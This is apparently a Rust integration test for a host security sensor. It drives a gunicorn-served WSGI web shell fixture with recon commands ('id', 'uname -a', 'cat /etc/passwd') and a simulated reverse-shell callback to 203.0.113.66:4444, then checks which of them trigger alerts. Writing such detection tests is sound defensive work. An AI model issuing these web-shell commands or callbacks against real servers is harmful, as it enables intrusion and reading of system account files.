//! Debian's gunicorn (a python3 script: the executed file is the interpreter) serving a WSGI app
//! whose command-injection endpoint is the Python web shell; workers drop to www-data.

use std::{process::Command, time::Duration};

use integration_tests::RunningSensor;

use super::{
    check::{self, Target},
    copy_fixtures,
    daemon::{Daemon, free_ports, user, workdir},
    http,
    netns::{self, Netns},
    nginx_php::signal,
    report::Report,
    sensor_config,
};

pub fn run() {
    let dir = workdir("gunicorn");
    let d = dir.path();
    let app = d.join("app");
    copy_fixtures("wsgi", &app);
    let [port] = free_ports();
    let config = sensor_config(d);
    let mut report = Report::new("gunicorn");

    let ns = Netns::create();
    let sensor = RunningSensor::start(&config);
    let mut server = Daemon::spawn(
        "gunicorn",
        Command::new("/usr/bin/gunicorn")
            .args(["--bind", &format!("127.0.0.1:{port}"), "--workers", "1"])
            .args(["--user", "www-data", "--group", "www-data", "--chdir"])
            .arg(&app)
            .arg("shellapp:application")
            // Python must not write bytecode next to the app (www-data cannot, root would).
            .env("PYTHONDONTWRITEBYTECODE", "1"),
        &d.join("gunicorn.out"),
        libc::SIGTERM,
    );
    server.wait_port(port, Duration::from_secs(30));
    let (www_uid, _) = user("www-data");
    let base = format!("http://127.0.0.1:{port}");
    let shell = |cmd: &str| http::get_ok(&format!("{base}/run"), &[("cmd", cmd)]);
    let t = Target {
        sensor: &sensor,
        family: "python-web",
        technique: "T1505.003",
        root: server.pid(),
        worker_uid: Some(www_uid),
        shell: &shell,
    };
    let connect = |host: &str, port: u16| {
        http::get_ok(
            &format!("{base}/connect"),
            &[("host", host), ("port", &port.to_string())],
        )
    };

    report.record(
        "start-up of gunicorn (root master, www-data worker)",
        "no alert",
        check::benign(&t, || Ok(())),
    );
    report.record(
        "static response GET /",
        "no alert",
        check::benign(&t, || http::get_ok(&format!("{base}/"), &[]).map(drop)),
    );
    report.record(
        "Python socket to the allowlisted upstream 203.0.113.20:80",
        "no alert",
        match &ns {
            Ok(_) => check::benign(&t, || {
                connect(netns::UPSTREAM, netns::UPSTREAM_PORT).and_then(|b| {
                    b.contains("hello")
                        .then_some(())
                        .ok_or(format!("upstream not reached: {b}"))
                })
            }),
            Err(e) => Err(format!("no namespace: {e}")),
        },
    );
    report.record(
        "subprocess.run('id', shell=True)",
        "shell + recon, one incident",
        check::web_shell(&t, "id", "id", "uid=", || shell("id")),
    );
    report.record(
        "subprocess.run('uname -a', shell=True)",
        "shell + recon, one incident",
        check::web_shell(&t, "uname -a", "uname", "Linux", || shell("uname -a")),
    );
    report.record(
        "subprocess.run('cat /etc/passwd', shell=True)",
        "shell + recon, one incident",
        check::web_shell(&t, "cat /etc/passwd", "cat", "root:x:0:0", || {
            shell("cat /etc/passwd")
        }),
    );
    report.record(
        "Python socket to 203.0.113.66:4444 (reverse shell callback)",
        "server-outbound-unknown 203.0.113.66:4444",
        match &ns {
            Ok(_) => check::outbound(&t, netns::UNKNOWN, netns::UNKNOWN_PORT, || {
                connect(netns::UNKNOWN, netns::UNKNOWN_PORT)
            }),
            Err(e) => Err(format!("no namespace: {e}")),
        },
    );
    report.record(
        "graceful reload (HUP: new workers)",
        "no alert",
        check::benign(&t, || {
            signal(server.pid(), libc::SIGHUP)?;
            std::thread::sleep(Duration::from_millis(1000));
            http::get_ok(&format!("{base}/"), &[]).map(drop)
        }),
    );
    drop(server);
    drop(sensor);
    drop(ns);
    report.finish();
}
